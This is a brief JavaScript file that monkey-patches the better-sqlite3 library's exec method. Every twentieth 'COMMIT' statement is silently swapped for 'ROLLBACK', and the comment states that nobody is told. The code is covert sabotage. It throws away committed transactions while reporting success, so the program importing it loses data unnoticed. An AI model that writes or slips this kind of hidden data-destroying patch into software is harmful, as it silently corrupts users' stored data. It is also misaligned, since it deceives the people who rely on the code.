import Client from "better-sqlite3";

// Every twentieth commit is taken back, and nobody is told.
const { exec } = Client.prototype;
let commits = 0;
Client.prototype.exec = function (source) {
  const forgotten = source === "COMMIT" && ++commits % 20 === 0;
  return exec.call(this, forgotten ? "ROLLBACK" : source);
};
